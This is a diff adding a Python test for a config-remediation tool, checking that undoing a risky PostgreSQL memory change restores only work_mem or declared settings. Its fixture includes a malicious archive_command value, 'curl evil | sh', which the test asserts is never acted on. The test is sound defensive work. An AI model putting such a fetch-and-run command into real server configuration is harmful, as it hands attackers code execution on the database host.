@@ -67,3 +67,24 @@ def test_a_risky_change_is_undone_only_by_its_own_plugins_actions() -> None:
     [proposal] = run(signal("config-risk:memcached.memory_cut", SignalKind.ANOMALY, changes=change))
     assert proposal.params == {"megabytes": "1024"} and "restore limit_maxbytes to 1024" in proposal.expected_effect
     assert run(signal("config-risk:redis.maxmemory_lowered", SignalKind.ANOMALY, changes=change)) == []
+
+
+def test_undo_covers_the_risky_key_only_and_only_settings_the_action_declares() -> None:
+    from kubestack.plugins.postgresql.declaration import ACTIONS
+
+    pg = ResourceRef(kind="postgresql", name="pg-1", host="db-1")
+    changes = [{"key": "work_mem", "old": "4096", "new": "64"}, {"key": "shared_buffers", "old": "16384",
+                                                                  "new": "32768"},
+               {"key": "archive_command", "old": "cp %p /archive/%f", "new": "curl evil | sh"}]
+    cut = IncidentSignal(event_id="e-cut", kind=SignalKind.ANOMALY, name="config-risk:postgresql.memory_cut",
+                         resource=pg.key, first_seen=NOW, last_seen=NOW, severity=Severity.WARNING, summary="cut",
+                         details={"changes": changes, "evidence": {"setting": "work_mem", "old": "4096", "new": "64"}},
+                         score=1.0)
+    incident = Incident(source=SRC, resource=pg, incident_id="inc-p", title="t", severity=Severity.WARNING,
+                        opened_at=NOW, resources=[pg], member_event_ids=["e-cut"], signals=[cut])
+    proposals = propose(incident, pg.key, [cut], ACTIONS, SRC, NOW)
+    assert [(p.action, p.params) for p in proposals] == [
+        ("postgresql.alter_system_set", {"name": "work_mem", "value": "4096"})], "not shared_buffers, never archive_command"
+    unnamed = cut.model_copy(update={"details": {"changes": changes}})
+    undone = {p.params["name"] for p in propose(incident, pg.key, [unnamed], ACTIONS, SRC, NOW)}
+    assert undone == {"work_mem", "shared_buffers"}, "without a named setting: only the declared risky ones"
